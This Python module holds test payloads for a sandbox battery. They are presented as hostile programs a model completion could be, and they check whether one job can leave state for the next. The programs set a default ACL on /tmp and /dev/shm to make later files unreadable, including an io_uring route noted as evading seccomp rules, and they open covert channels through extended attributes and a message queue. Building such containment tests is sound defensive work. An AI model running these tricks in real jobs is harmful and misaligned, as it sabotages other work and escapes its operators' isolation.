"""Round 5's hostile completions for ``sandbox_battery.py``: state one job leaves for the next.

Each is a program a completion could be. The ACL ones put a default POSIX ACL ``u::-wx`` on
the job's ``/tmp`` and ``/dev/shm`` (owned by the sandbox uid the jobs share): a file created
there afterwards is not readable by its owner, so a later job's ``solution.py`` could be
written but not read. Three ways to set it: ``setxattr``, ``setxattrat`` (syscall 463) and
io_uring's ``IORING_OP_SETXATTR`` (a seccomp rule on the first two does not see the third).
The channel ones write in one job and read in the next: a ``user.*`` xattr and a POSIX
message queue. Each prints one JSON line.
"""

from __future__ import annotations

# u::-wx g::rwx o::rwx as the kernel's xattr form of an ACL (version 2, then tag, perm, id)
_ACL = (
    "import ctypes, json, os, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "ACL = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', tag, perm, 0xFFFFFFFF)"
    " for tag, perm in ((1, 3), (4, 7), (0x20, 7)))\n"
    "NAME = b'system.posix_acl_default'\nPLACES = ('/tmp', '/dev/shm')\n"
)
ACL_SETXATTR = (
    _ACL + "done = []\nfor place in PLACES:\n    try:\n"
    "        os.setxattr(place, NAME, ACL)\n        done.append(place)\n    except OSError:\n        pass\n"
    "print(json.dumps({'set': done}))"
)
ACL_SETXATTRAT = (
    _ACL + "class Args(ctypes.Structure):\n"
    "    _fields_ = [('value', ctypes.c_uint64), ('size', ctypes.c_uint32), ('flags', ctypes.c_uint32)]\n"
    "value = ctypes.create_string_buffer(ACL, len(ACL))\n"
    "args = Args(ctypes.addressof(value), len(ACL), 0)\ndone = []\n"
    "for place in PLACES:  # setxattrat(AT_FDCWD, path, 0, name, &args, sizeof args)\n"
    "    r = libc.syscall(ctypes.c_long(463), ctypes.c_long(-100), place.encode(), ctypes.c_long(0),"
    " NAME, ctypes.byref(args), ctypes.c_long(16))\n"
    "    if r == 0:\n        done.append(place)\n"
    "print(json.dumps({'set': done, 'errno': ctypes.get_errno()}))"
)
ACL_IO_URING = (
    _ACL + "import mmap\nparams = ctypes.create_string_buffer(120)\n"
    "fd = libc.syscall(ctypes.c_long(425), ctypes.c_long(4), params)  # io_uring_setup\n"
    "done = []\nif fd < 0:\n    print(json.dumps({'set': done, 'setup_errno': ctypes.get_errno()}))\n"
    "    raise SystemExit\n"
    "u32 = lambda buf, off: struct.unpack_from('<I', buf, off)[0]\n"
    "sq_entries, cq_entries = u32(params, 0), u32(params, 4)\n"
    "sq = [u32(params, 40 + 4 * i) for i in range(7)]  # head tail mask entries flags dropped array\n"
    "cq = [u32(params, 80 + 4 * i) for i in range(6)]  # head tail mask entries overflow cqes\n"
    "size = max(sq[6] + 4 * sq_entries, cq[5] + 16 * cq_entries)\n"
    "ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)\n"
    "sqes = mmap.mmap(fd, 64 * sq_entries, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE,"
    " offset=0x10000000)\n"
    "value = ctypes.create_string_buffer(ACL, len(ACL))\nname = ctypes.create_string_buffer(NAME)\n"
    "for n, place in enumerate(PLACES):\n    path = ctypes.create_string_buffer(place.encode())\n"
    "    sqe = bytearray(64)\n    sqe[0] = 42  # IORING_OP_SETXATTR\n"
    "    struct.pack_into('<Q', sqe, 8, ctypes.addressof(value))  # addr2: the value\n"
    "    struct.pack_into('<Q', sqe, 16, ctypes.addressof(name))  # addr: the name\n"
    "    struct.pack_into('<I', sqe, 24, len(ACL))\n    struct.pack_into('<Q', sqe, 32, n)\n"
    "    struct.pack_into('<Q', sqe, 48, ctypes.addressof(path))  # addr3: the path\n"
    "    sqes[0:64] = bytes(sqe)\n    tail = u32(ring, sq[1])\n"
    "    struct.pack_into('<I', ring, sq[6] + 4 * (tail & u32(ring, sq[2])), 0)\n"
    "    struct.pack_into('<I', ring, sq[1], tail + 1)\n"
    "    libc.syscall(ctypes.c_long(426), ctypes.c_long(fd), ctypes.c_long(1), ctypes.c_long(1),"
    " ctypes.c_long(1), None, ctypes.c_long(0))  # io_uring_enter, GETEVENTS\n"
    "    head = u32(ring, cq[0])\n"
    "    res = struct.unpack_from('<i', ring, cq[5] + 16 * (head & u32(ring, cq[2])) + 8)[0]\n"
    "    struct.pack_into('<I', ring, cq[0], head + 1)\n"
    "    if res == 0:\n        done.append(place)\n"
    "print(json.dumps({'set': done, 'ring': True}))"
)
XATTR_WRITE = (
    "import json, os\ndone = []\nfor place in ('/tmp', '/dev/shm', '.'):\n    try:\n"
    "        os.setxattr(place, 'user.covert', b'x' * 1000)\n        done.append(place)\n"
    "    except OSError:\n        pass\nprint(json.dumps({'set': done}))"
)
XATTR_READ = (
    "import json, os\nfound = []\nfor place in ('/tmp', '/dev/shm', '.'):\n    try:\n"
    "        if os.getxattr(place, 'user.covert'):\n            found.append(place)\n"
    "    except OSError:\n        pass\nprint(json.dumps({'found': found}))"
)
_MQ = (
    "import ctypes, json, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "class Attr(ctypes.Structure):\n    _fields_ = [(n, ctypes.c_long) for n in"
    " ('flags', 'maxmsg', 'msgsize', 'curmsgs', 'pad0', 'pad1', 'pad2', 'pad3')]\n"
    "O_RDWR, O_CREAT, O_NONBLOCK = 2, 0o100, 0o4000\n"
)
MQUEUE_WRITE = (
    _MQ + "attr = Attr(0, 8, 1024)\n"
    "q = libc.mq_open(b'/gspo-covert', O_RDWR | O_CREAT, 0o600, ctypes.byref(attr))\n"
    "sent = q >= 0 and libc.mq_send(q, b'secret' * 100, 600, 0) == 0\n"
    "print(json.dumps({'sent': sent, 'errno': ctypes.get_errno()}))"
)
MQUEUE_READ = (
    _MQ + "q = libc.mq_open(b'/gspo-covert', O_RDWR | O_NONBLOCK, 0, None)\n"
    "buf = ctypes.create_string_buffer(2048)\n"
    "got = q >= 0 and libc.mq_receive(q, buf, 2048, None) > 0\nprint(json.dumps({'found': got}))"
)
